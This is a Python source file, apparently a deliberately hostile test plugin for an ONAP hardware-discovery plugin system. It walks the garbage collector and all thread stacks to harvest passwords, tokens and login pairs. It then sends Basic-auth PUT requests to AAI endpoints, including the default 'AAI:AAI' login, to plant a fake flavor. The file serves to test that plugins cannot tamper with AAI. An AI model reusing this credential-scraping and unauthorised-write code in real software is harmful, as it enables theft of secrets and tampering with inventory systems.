"""hostile-gc: walks ``gc.get_objects()`` and every thread's frames for a credential or a live AAI client,
then tries to PUT a flavor of its own to every AAI-looking URL it finds (and to AAI's usual address)."""

from __future__ import annotations

import base64
import contextlib
import gc
import http.client
import json
import re
import sys
from collections.abc import Mapping
from typing import Any, Final
from urllib.parse import urlsplit

from onap_device_driver_hostile._probe import info, report
from onap_hpa import DiscoveryRequest, hookimpl

DRIVER = info("hostile-gc")
#: The flavor it plants in AAI; the test checks AAI never holds it.
PLANTED: Final = "hostile-gc-planted"
#: Names a credential is kept under (lowercase: upper-case names are module constants, not secrets).
_CREDENTIAL = re.compile(r"^_*(password|passwd|secret|token|auth_token|api_key|auth|authorization)$")
_URL = re.compile(r"https?://[^\s\"'<>\\]+")
_GUESSES: Final = ("https://aai.onap:8443/aai/v13", "http://127.0.0.1:8443/aai/v13", "http://127.0.0.1:30233/aai/v13")


class _Loot:
    def __init__(self) -> None:
        self.credentials: list[str] = []
        self.logins: list[str] = []  #: "user:password", from (user, password) pairs: what basic auth takes
        self.urls: set[str] = set()
        self.sessions = 0
        self.objects = 0
        self.frames = 0

    def mapping(self, items: Mapping[Any, Any]) -> None:
        for key, value in list(items.items()):
            if isinstance(key, str) and _CREDENTIAL.match(key) and _secretish(value):
                self.steal(key, value)
            if isinstance(value, str) and "://" in value:
                self.urls.update(url for url in _URL.findall(value)[:4] if "/aai/" in url or "127.0.0.1" in url)

    def steal(self, where: str, value: Any) -> None:
        self.credentials.append(f"{where}={value!r}")
        if isinstance(value, tuple):
            self.logins.append(":".join(value))

    def thing(self, obj: Any) -> None:
        name = type(obj).__name__
        if name == "Session" or name.endswith("Client"):
            self.sessions += 1
            for attr in ("auth", "_auth", "headers", "password", "_password", "base", "url", "_url", "_base"):
                value = getattr(obj, attr, None)
                if isinstance(value, Mapping):
                    self.mapping(value)
                elif _secretish(value) and attr in ("auth", "_auth", "password", "_password"):
                    self.steal(f"{name}.{attr}", value)
                elif isinstance(value, str) and "://" in value:
                    self.urls.add(value)


def _secretish(value: Any) -> bool:
    """A value that may be a password or a token: one short word, or a (user, password) pair of them."""
    if isinstance(value, tuple):
        return len(value) == 2 and all(_secretish(part) for part in value)
    return isinstance(value, str) and 0 < len(value) <= 256 and not any(char.isspace() for char in value)


def _put(url: str, request: DiscoveryRequest, auth: str) -> str:
    vim = request.vim
    parts = urlsplit(url)
    path = (
        f"{parts.path.rstrip('/')}/cloud-infrastructure/cloud-regions/cloud-region/{vim.cloud_owner}/"
        f"{vim.cloud_region_id}/flavors/flavor/{PLANTED}"
    )
    body = json.dumps({"flavor-id": PLANTED, "flavor-name": PLANTED, "flavor-selflink": "http://0.0.0.0"})
    connection_type = http.client.HTTPSConnection if parts.scheme == "https" else http.client.HTTPConnection
    connection = connection_type(parts.hostname or "", parts.port, timeout=0.3)
    try:
        headers = {
            "Authorization": "Basic " + base64.b64encode(auth.encode()).decode(),
            "Content-Type": "application/json",
            "X-FromAppId": "hostile-gc",
            "X-TransactionId": "hostile-gc",
        }
        connection.request("PUT", path, body=body, headers=headers)
        return f"PUT {url} -> HTTP {connection.getresponse().status}"
    finally:
        connection.close()


@hookimpl
def hpa_discover(request: DiscoveryRequest) -> list[dict[str, Any]]:
    loot = _Loot()
    for obj in gc.get_objects():
        loot.objects += 1
        try:
            if type(obj) is dict:
                loot.mapping(obj)
            else:
                loot.thing(obj)
        except Exception:  # noqa: BLE001, S112 - a thief does not stop at one odd object
            continue
    for frame in sys._current_frames().values():  # every thread's stack: that is the point
        current: Any = frame
        while current is not None:
            loot.frames += 1
            with contextlib.suppress(Exception):
                loot.mapping(current.f_locals)
            current = current.f_back
    outcomes = []
    for url in sorted(loot.urls)[:8] + list(_GUESSES):
        for auth in [*dict.fromkeys(loot.logins)][:4] or ["AAI:AAI"]:
            try:
                outcomes.append(_put(url, request, auth))
            except OSError as error:
                outcomes.append(f"PUT {url}: {type(error).__name__}: {error}")
                break
    answered = [outcome for outcome in outcomes if "-> HTTP" in outcome]
    if loot.credentials or answered:
        return report(loot.credentials + answered)
    raise LookupError(
        f"no credential and no AAI client in this process: {loot.objects} objects, {loot.frames} frames, "
        f"{loot.sessions} sessions; {len(outcomes)} PUTs failed, first: {outcomes[0]}"
    )
